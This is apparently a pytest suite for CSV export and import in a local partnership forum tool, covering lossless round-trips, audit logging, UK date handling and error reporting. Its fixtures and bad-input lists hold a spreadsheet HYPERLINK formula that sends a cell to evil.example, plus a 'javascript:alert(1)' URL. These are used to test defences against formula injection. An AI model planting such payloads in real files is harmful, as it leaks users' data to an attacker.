"""Officers' spreadsheets: `forum export actions|indicators|consultations --csv FILE` and
`forum import FILE.csv` round-trip without loss; a bad row is reported with its line and column and
nothing is written; what is written is audited with the file as the actor."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func
from sqlmodel import Session, SQLModel, select

from commands.imports.demo import demo_partnership
from commands.imports.load_partnership import load
from commands.spreadsheets.cells import (
    CellProblem,
    SpreadsheetError,
    guard,
    read_day,
    read_number,
    read_text,
    unguard,
    write_number,
)
from commands.spreadsheets.files import export_csv, import_csv
from storage.db import make_engine, transaction, upgrade
from storage.tables import (
    Action,
    ActionUpdate,
    AuditEvent,
    Consultation,
    Indicator,
    IndicatorReading,
    Person,
)
from storage.writes import create
from tests.support.clock import LONDON
from tests.support.databases import loaded_sqlite_copy, throwaway_postgres

TODAY = date(2026, 11, 2)  # the demo's dates are moved to fall around this day
KINDS = ["actions", "indicators", "consultations"]


# --- helpers ----------------------------------------------------------------------------------


def load_demo(engine, skeleton: bool = False) -> None:
    """The demo partnership; `skeleton`: its boards, people and meetings, but no actions,
    indicators or consultations (a database a sheet is moved into)."""
    data = demo_partnership(TODAY)
    if skeleton:
        data = data.model_copy(update={"actions": [], "indicators": [], "consultations": []})
    with transaction(engine) as session:
        load(session, data, "demo", LONDON)


def sheet(engine, kind: str) -> bytes:
    return export_csv(engine, LONDON, kind)[0]


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def to_bytes(rows: list[list[str]], bom: bool = True) -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def without_refs(data: bytes) -> bytes:
    rows = rows_of(data)
    if rows[0][0] == "Ref":
        rows = [row[1:] for row in rows]
    return to_bytes(rows)


def everything(engine) -> dict[str, list]:
    """Every row of every table, to show that nothing at all was written."""
    with Session(engine) as session:
        return {
            table.name: sorted(map(tuple, session.connection().execute(table.select()).all()), key=repr)
            for table in SQLModel.metadata.sorted_tables
        }


def audit_count(engine) -> int:
    with Session(engine) as session:
        return session.exec(select(func.count()).select_from(AuditEvent)).one()


def do_import(engine, data: bytes, name: str = "sheet.csv", dry_run: bool = False) -> str:
    return import_csv(engine, LONDON, name, data, dry_run=dry_run)


def add_awkward_records(engine) -> None:
    """What officers and Slack put in that a spreadsheet must carry unchanged: formulas, a leading
    apostrophe, accents and dashes, a role as owner, a note over two lines, a float with no short
    decimal, a negative baseline, no board."""
    with transaction(engine) as session:
        bren = session.exec(select(Person).where(Person.name == "Bren McGowan")).one()
        action = create(
            session,
            "U0BREN001",
            Action(
                description='=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")',
                owner_text="the LSP Manager",
                due_date=date(2027, 3, 1),
                status="in_progress",
            ),
        )
        create(session, "U0BREN001", ActionUpdate(action_id=action.id, text="Asked the venue;\nwaiting to hear"))
        create(session, "U0BREN001", ActionUpdate(action_id=action.id, text="+44 1582 546000 rang back"))
        create(
            session,
            "U0BREN001",
            Action(
                description="'=quoted already — Zoë’s café, £40",
                owner_id=bren.id,
                status="done",
                completed_at=datetime(2026, 10, 30, 10, 32, tzinfo=UTC),
            ),
        )
        create(
            session,
            "U0BREN001",
            Action(
                description="@channel -  minus and at",
                status="open",
                completed_at=datetime(2026, 3, 29, 0, 30, tzinfo=UTC),
            ),
        )
        create(
            session,
            "U0BREN001",
            Consultation(
                title="-Older people's services, 2027–28",
                issuer="NHS Luton",
                url="https://example.org/c?a=1&b=2",
                opens=date(2026, 10, 1),
                closes=date(2026, 12, 1),
                response_owner_text="all partners",
                response_status="submitted",
                submitted_at=datetime(2026, 11, 1, 9, 15, tzinfo=UTC),
                note='Line one,\n"quoted" line two',
            ),
        )
        create(
            session,
            "U0BREN001",
            Indicator(
                code="LI 99",
                title="A float, a negative, no board",
                direction="lower",
                baseline=-2.5,
                partners=["Luton Borough Council, Housing", "Age UK"],
            ),
        )
        indicator = session.exec(select(Indicator).where(Indicator.code == "LI 99")).one()
        create(session, "U0BREN001", IndicatorReading(indicator_id=indicator.id, period="2026/27 Q1", value=0.1 + 0.2))


@pytest.fixture
def demo(loaded):
    return loaded("spreadsheets-demo", load_demo)


def _demo_and_awkward(engine) -> None:
    load_demo(engine)
    add_awkward_records(engine)


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgres", marks=pytest.mark.postgres)])
def shared(request, tmp_path_factory):
    """The demo and the awkward records, loaded once (loading takes seconds) for the tests that
    must write nothing, each of which checks that it did not; in a database of its own."""
    if request.param == "sqlite":
        engine = loaded_sqlite_copy("sheets-awkward", _demo_and_awkward, tmp_path_factory.mktemp("sheets") / "forum.db")
        yield engine
        engine.dispose()
        return
    with throwaway_postgres("forum_sheets") as url:
        engine = make_engine(url)
        upgrade(engine)
        _demo_and_awkward(engine)
        yield engine
        engine.dispose()


@pytest.fixture(scope="module")
def source(tmp_path_factory):
    """Another database, where a sheet comes from (never written to)."""
    engine = loaded_sqlite_copy("sheets-awkward", _demo_and_awkward, tmp_path_factory.mktemp("source") / "source.db")
    yield engine
    engine.dispose()


def line_of(rows: list[list[str]], index: int) -> int:
    """The line of the file rows[index] starts on: a cell over two lines takes two."""
    return 1 + sum(1 + sum(cell.count("\n") for cell in row) for row in rows[:index])


# --- round trips --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_importing_an_export_into_the_same_database_writes_nothing(shared, kind):
    demo = shared
    data = sheet(demo, kind)
    before, audits = everything(demo), audit_count(demo)
    summary = do_import(demo, data, f"{kind}.csv")
    assert summary.startswith("Nothing to change: the database already holds every one of these")
    assert everything(demo) == before and audit_count(demo) == audits


@pytest.mark.parametrize("kind", KINDS)
def test_a_sheet_moved_to_another_database_exports_again_byte_for_byte(source, loaded, kind):
    """Export from one database, import (refs emptied, as they are that database's) into one that
    has the partnership's boards, people and meetings but none of these, export again: the same
    bytes, refs aside; and importing it there again writes nothing."""
    engine = loaded("spreadsheets-skeleton", lambda engine: load_demo(engine, skeleton=True))
    original = sheet(source, kind)
    rows = rows_of(original)
    if rows[0][0] == "Ref":
        rows = [rows[0]] + [[""] + row[1:] for row in rows[1:]]
    summary = do_import(engine, to_bytes(rows), f"{kind}.csv")
    assert f"{len(rows) - 1} added" in summary
    again = sheet(engine, kind)
    assert without_refs(again) == without_refs(original)
    assert again.startswith("\ufeff".encode()) and b"\r\n" in again
    audits = audit_count(engine)
    assert do_import(engine, again, f"{kind}.csv").startswith("Nothing to change")
    assert audit_count(engine) == audits


def test_export_neutralises_cells_excel_would_run_and_import_restores_them(shared):
    demo = shared
    rows = rows_of(sheet(demo, "actions")) + rows_of(sheet(demo, "consultations"))
    text_cells = [cell for row in rows for cell in row if cell and not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]
    assert not [cell for cell in text_cells if cell[0] in "=+-@\t\r"]
    cells = {cell for row in rows for cell in row}
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")' in cells
    assert "''=quoted already — Zoë’s café, £40" in cells  # its own apostrophe kept, one added
    assert "'@channel -  minus and at" in cells and "'-Older people's services, 2027–28" in cells
    assert "Asked the venue;\nwaiting to hear\n+44 1582 546000 rang back" in cells  # notes: one a line
    with Session(demo) as session:
        stored = {a.description for a in session.exec(select(Action)).all()}
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the agenda")' in stored  # as written, unchanged
    assert "'=quoted already — Zoë’s café, £40" in stored


def test_a_sheet_saved_back_by_excel_in_the_uk_changes_nothing(shared):
    """Excel in the UK rewrites 2027-02-17 as 17/02/2027, saves "CSV (Comma delimited)" as
    Windows-1252 without a byte-order mark, and pads rows with empty cells."""
    demo = shared
    for kind in KINDS:
        rows = rows_of(sheet(demo, kind))
        uk = [[re.sub(r"^(\d{4})-(\d{2})-(\d{2})$", r"\3/\2/\1", cell) for cell in row] + ["", ""] for row in rows]
        rows[0] += ["", ""]
        data = to_bytes(uk, bom=False).decode("utf-8").encode("cp1252")
        audits = audit_count(demo)
        assert do_import(demo, data, f"{kind}.csv").startswith("Nothing to change"), kind
        assert audit_count(demo) == audits


# --- changes through a sheet ----------------------------------------------------------------------


def _edit(rows: list[list[str]], ref: str, **cells) -> None:
    header = rows[0]
    row = next(r for r in rows if r[0] == ref)
    for column, value in cells.items():
        row[header.index(column.replace("_", " ").capitalize())] = value


def test_edited_actions_are_written_and_audited_with_the_file_as_actor(demo):
    rows = rows_of(sheet(demo, "actions"))
    target = next(r for r in rows[1:] if r[8] == "open")
    ref = target[0]
    _edit(
        rows,
        ref,
        status="done",
        due="04/12/2026",
        updates=(target[10] + "\nSent 3 March").strip(),
        completed="03/12/2026",
    )
    rows.append(
        [
            "",
            "Book the Hat Factory for the June Forum",
            "the LSP Manager",
            "",
            "forum",
            "",
            "",
            "2027-01-15",
            "",
            "",
            "Provisional booking made",
        ]
    )
    summary = do_import(demo, to_bytes(rows), "actions.csv")
    action_id = int(ref[2:])
    with Session(demo) as session:
        action = session.get(Action, action_id)
        assert action.status == "done" and action.due_date == date(2026, 12, 4)
        assert action.completed_at == datetime(2026, 12, 3, 17, tzinfo=UTC)  # 5 pm GMT that day
        events = session.exec(
            select(AuditEvent).where(
                AuditEvent.entity == "action",
                AuditEvent.entity_id == action_id,
                AuditEvent.actor == "import:actions.csv",
            )
        ).all()
        assert len(events) == 1 and events[0].verb == "update"
        assert events[0].before["status"] == "open" and events[0].after["status"] == "done"
        assert events[0].after["due_date"] == "2026-12-04"
        assert [u.text for u in session.exec(select(ActionUpdate).where(ActionUpdate.action_id == action_id))][
            -1
        ] == "Sent 3 March"
        new = session.exec(select(Action).where(Action.description == "Book the Hat Factory for the June Forum")).one()
        assert (new.owner_id, new.owner_text, new.status, new.source) == (
            None,
            "the LSP Manager",
            "open",
            "import:actions.csv",
        )
        assert (
            session.exec(select(ActionUpdate).where(ActionUpdate.action_id == new.id)).one().text
            == "Provisional booking made"
        )
    assert (
        f"1 added ({new.ref})" in summary and f"1 changed ({ref})" in summary and "2 progress notes added." in summary
    )
    # the same edited sheet again (its new row still without a ref) finds what it wrote: nothing more
    audits = audit_count(demo)
    assert do_import(demo, to_bytes(rows), "actions.csv").startswith("Nothing to change")
    assert audit_count(demo) == audits


def test_a_done_action_with_no_day_is_done_now_and_a_new_owner_is_created_by_name(demo):
    rows = rows_of(sheet(demo, "actions"))
    ref = next(r for r in rows[1:] if r[8] == "open")[0]
    _edit(rows, ref, status="Done", owner="Cllr Priya Shah")
    moment = datetime.now(UTC)
    summary = do_import(demo, to_bytes(rows), "actions.csv")
    with Session(demo) as session:
        action = session.get(Action, int(ref[2:]))
        assert action.status == "done" and abs((action.completed_at - moment).total_seconds()) < 60
        assert session.get(Person, action.owner_id).name == "Cllr Priya Shah"
    assert "New people: Cllr Priya Shah." in summary


def test_an_indicator_sheet_records_readings_withdraws_emptied_ones_and_brings_them_back(demo):
    rows = rows_of(sheet(demo, "indicators"))
    header = rows[0]
    ni15 = next(r for r in rows if r[0] == "NI 15")
    filled = [i for i, h in enumerate(header) if h.startswith("Reading") and ni15[i]]
    withdrawn_period = header[filled[0]].removeprefix("Reading ")
    ni15[filled[0]] = ""
    summary = do_import(demo, to_bytes(rows), "indicators.csv")
    assert "1 changed (NI 15)" in summary
    with Session(demo) as session:
        reading = session.exec(
            select(IndicatorReading).where(
                IndicatorReading.period == withdrawn_period,
                IndicatorReading.indicator_id == Indicator.id,
                Indicator.code == "NI 15",
            )
        ).one()
        assert reading.archived_at is not None  # kept on record, not deleted
        event = session.exec(
            select(AuditEvent)
            .where(AuditEvent.entity == "indicator_reading", AuditEvent.entity_id == reading.id)
            .order_by(AuditEvent.id.desc())  # the newest: rows come back in no promised order
        ).first()
        assert (event.verb, event.actor) == ("archive", "import:indicators.csv")
    # a sheet of just the code and one quarter's readings: recorded, and the withdrawn one back
    partial = to_bytes([["Code", f"Reading {withdrawn_period}", "Reading 2027/28 Q1"], ["ni15", "1.5", "0.98"]])
    assert "1 changed (NI 15)" in do_import(demo, partial, "quarter.csv")
    with Session(demo) as session:
        readings = {
            r.period: (r.value, r.archived_at)
            for r in session.exec(select(IndicatorReading).join(Indicator).where(Indicator.code == "NI 15")).all()
        }
    assert readings[withdrawn_period] == (1.5, None) and readings["2027/28 Q1"] == (0.98, None)


def test_consultations_sheet_marks_a_response_submitted(demo):
    rows = rows_of(sheet(demo, "consultations"))
    row = next(r for r in rows[1:] if r[7] not in ("submitted",))
    _edit(rows, row[0], status="submitted", submitted="2026-11-02")
    assert f"1 changed ({row[0]})" in do_import(demo, to_bytes(rows), "consultations.csv")
    with Session(demo) as session:
        consultation = session.get(Consultation, int(row[0][2:]))
        assert consultation.response_status == "submitted"
        assert consultation.submitted_at == datetime(2026, 11, 2, 17, tzinfo=UTC)


def test_a_dry_run_says_what_would_change_and_writes_nothing(shared):
    demo = shared
    rows = rows_of(sheet(demo, "actions"))
    ref = next(r for r in rows[1:] if r[8] == "open")[0]
    _edit(rows, ref, status="dropped")
    before = everything(demo)
    assert f"1 changed ({ref})" in do_import(demo, to_bytes(rows), "actions.csv", dry_run=True)
    assert everything(demo) == before


# --- bad sheets ---------------------------------------------------------------------------------


def _actions_with(demo, line: int, **cells) -> bytes:
    """The exported actions with a good change on line 2 (which must not be written either) and
    `cells` changed on `line`."""
    rows = rows_of(sheet(demo, "actions"))
    rows[1][8] = "dropped" if rows[1][8] != "dropped" else "open"
    header = rows[0]
    for column, value in cells.items():
        rows[line - 1][header.index(column.capitalize())] = value
    return to_bytes(rows)


BAD_ACTIONS = [
    ({"due": "31/02/2027"}, "line 3, Due: “31/02/2027” is not a real date"),
    ({"due": "02/17/2027"}, "line 3, Due: “02/17/2027” reads as month/day (US order)"),
    ({"due": "next friday"}, "line 3, Due: “next friday” is not a date; write 2027-02-17 or 17/02/2027"),
    ({"board": "safe"}, "line 3, Board: unknown board “safe” (boards: forum, "),
    ({"status": "finished"}, "line 3, Status: status “finished” is not one of: open, in progress, done, dropped"),
    (
        {"description": '=HYPERLINK("http://evil.example","x")'},
        'line 3, Description: “=HYPERLINK("http://evil.example","x")” is a spreadsheet formula; give the value itself',
    ),
    ({"ref": "A-999"}, "line 3, Ref: A-999 is not an action in this database"),
    ({"ref": "C-1"}, "line 3, Ref: “C-1” is not a reference like A-12"),
    ({"meeting": "forum 2031-01-01"}, "line 3, Meeting: Luton Forum has no meeting on Wednesday 1 January 2031"),
    ({"minute": "999"}, "line 3, Minute: no minute 999 in that meeting"),
    ({"ref": "A-1"}, "line 3: the same action as line 2"),
]


@pytest.mark.parametrize(
    "cells, message", BAD_ACTIONS, ids=[m.split(": ")[0] + " " + list(c)[0] for c, m in BAD_ACTIONS]
)
def test_a_bad_action_row_is_reported_by_line_and_column_and_nothing_is_written(shared, cells, message):
    demo = shared
    data = _actions_with(demo, 3, **cells)
    before = everything(demo)
    with pytest.raises(SpreadsheetError) as refused:
        do_import(demo, data, "actions.csv")
    assert message in str(refused.value)
    assert everything(demo) == before


def test_line_numbers_count_the_lines_a_multi_line_cell_takes(shared):
    rows = rows_of(sheet(shared, "actions"))
    multi = next(i for i, r in enumerate(rows) if "\n" in r[10])  # a row whose notes take two lines
    rows[multi + 1][7] = "2027-13-01"
    physical = line_of(rows, multi + 1)
    assert physical == multi + 3
    with pytest.raises(SpreadsheetError, match=rf"^line {physical}, Due: “2027-13-01” is not a real date"):
        do_import(shared, to_bytes(rows), "actions.csv")


def test_every_problem_is_listed_at_once_in_line_order(shared):
    rows = rows_of(sheet(shared, "actions"))
    rows[2][7], rows[4][4], rows[5] = "31/02/2027", "nowhere", rows[5][:3]
    before = everything(shared)
    with pytest.raises(SpreadsheetError) as refused:
        do_import(shared, to_bytes(rows), "actions.csv")
    problems = str(refused.value).splitlines()
    lines = [line_of(rows, i) for i in (2, 4, 5)]
    assert [p.split(":")[0] for p in problems] == [
        f"line {lines[0]}, Due",
        f"line {lines[1]}, Board",
        f"line {lines[2]}",
    ]
    assert problems[2].endswith(
        ": 3 cells, but the header row has 11 columns (a comma in a cell that is not in quotes?)"
    )
    assert everything(shared) == before


BAD_OTHERS = [
    (
        "indicators",
        [["Code", "Title", "Direction", "Reading 2026/27 Q1"], ["NI 15", "x", "lower", "abc"]],
        "line 2, Reading 2026/27 Q1: “abc” is not a number",
    ),
    (
        "indicators",
        [["Code", "Reading 2026/27 Q1"], ["NI 15", "75%"]],
        "line 2, Reading 2026/27 Q1: “75%”: give the number without %",
    ),
    (
        "indicators",
        [["Code", "Baseline period"], ["NI 15", "Sep-08"]],
        "line 2, Baseline period: “Sep-08” looks like a date",
    ),
    ("indicators", [["Code", "Title"], ["NI 999", "New one"]], "line 2: say whether higher or lower is better"),
    ("indicators", [["Code", "Baseline"], ["NI 15", "1"], ["ni15", "2"]], "line 3, Code: NI 15 is also on line 2"),
    ("indicators", [["Code", "Illustrative"], ["NI 15", "maybe"]], "line 2, Illustrative: “maybe”: say yes or no"),
    (
        "indicators",
        [["Code", "Target 2009"], ["NI 15", "1"]],
        "line 1: unknown column “Target 2009” in a sheet of indicators",
    ),
    (
        "consultations",
        [["Title", "URL"], ["New consultation", "javascript:alert(1)"]],
        "line 2, URL: “javascript:alert(1)” is not a web address starting https://",
    ),
    (
        "consultations",
        [["Title", "Opens", "Closes"], ["New consultation", "2027-02-01", "2027-01-01"]],
        "line 2, Closes: it closes before it opens",
    ),
    (
        "consultations",
        [["Title", "Status"], ["New consultation", "sent"]],
        "line 2, Status: status “sent” is not one of: not started, drafting, circulated, signed off, submitted",
    ),
    (
        "consultations",
        [["Ref", "Status"], ["C-1", "drafting"]],
        "line 1: these columns could be actions or consultations",
    ),
    (
        "consultations",
        [["Title", "Colour"], ["x", ""]],
        "line 1: unknown column “Colour” in a sheet of consultations, whose columns are Ref, Title, Issuer, URL,",
    ),
    ("consultations", [["Title", "Title"], ["x", "y"]], "line 1: the column “Title” is there twice"),
    ("consultations", [["Name", "Value"], ["x", "1"]], "line 1: the first row should name the columns"),
]


@pytest.mark.parametrize("kind, rows, message", BAD_OTHERS, ids=[m for _, _, m in BAD_OTHERS])
def test_bad_indicator_and_consultation_sheets_are_refused_whole(shared, kind, rows, message):
    demo = shared
    before = everything(demo)
    with pytest.raises(SpreadsheetError) as refused:
        do_import(demo, to_bytes(rows), f"{kind}.csv")
    assert message in str(refused.value)
    assert everything(demo) == before


@pytest.mark.parametrize(
    "data, message",
    [
        (bytes(range(256)) * 10, "this is not a CSV text file"),
        (b"\x89PNG\r\n\x1a\n" + b"\xff" * 40, "this is not a CSV text file"),
        (b"", "the file is empty"),
        (b'Description,Due\r\n"unterminated,2027-01-01\r\n', "not readable as CSV"),
    ],
)
def test_files_that_are_not_spreadsheets_are_refused(shared, data, message):
    demo = shared
    before = everything(demo)
    with pytest.raises(SpreadsheetError, match=message):
        do_import(demo, data, "junk.csv")
    assert everything(demo) == before


# --- cells ----------------------------------------------------------------------------------------


@given(st.text())
def test_guarded_text_never_starts_like_a_formula_and_comes_back_unchanged(text):
    guarded = guard(text)
    assert not guarded.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unguard(guarded) == text


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_numbers_are_written_so_they_read_back_exactly(value):
    assert read_number(write_number(value)) == value


@pytest.mark.parametrize(
    "text, day",
    [
        ("2027-02-17", date(2027, 2, 17)),
        ("17/02/2027", date(2027, 2, 17)),
        ("3/4/2027", date(2027, 4, 3)),
        (" 29/02/2028 ", date(2028, 2, 29)),
        ("", None),
    ],
)
def test_dates_are_read_iso_or_day_first(text, day):
    assert read_day(text) == day


@pytest.mark.parametrize(
    "text, problem",
    [
        ("29/02/2027", "not a real date"),
        ("17/02/27", "write the year in full"),
        ("12/31/2027", "US order"),
        ("17 Feb 2027", "is not a date"),
        ("2027-02-17 00:00", "is not a date"),
    ],
)
def test_dates_that_are_not_plainly_one_day_are_refused(text, problem):
    with pytest.raises(CellProblem, match=problem):
        read_day(text)


def test_text_cells_are_trimmed_and_formulas_refused():
    assert read_text("  Bren \r\n McGowan ") == "Bren \n McGowan"
    assert read_text("'=SUM(A1:A2)") == "=SUM(A1:A2)" and read_text("'Tis") == "'Tis"
    with pytest.raises(CellProblem, match="spreadsheet formula"):
        read_text("=SUM(A1:A2)")
    with pytest.raises(CellProblem, match="at most 5"):
        read_text("too long", 5)
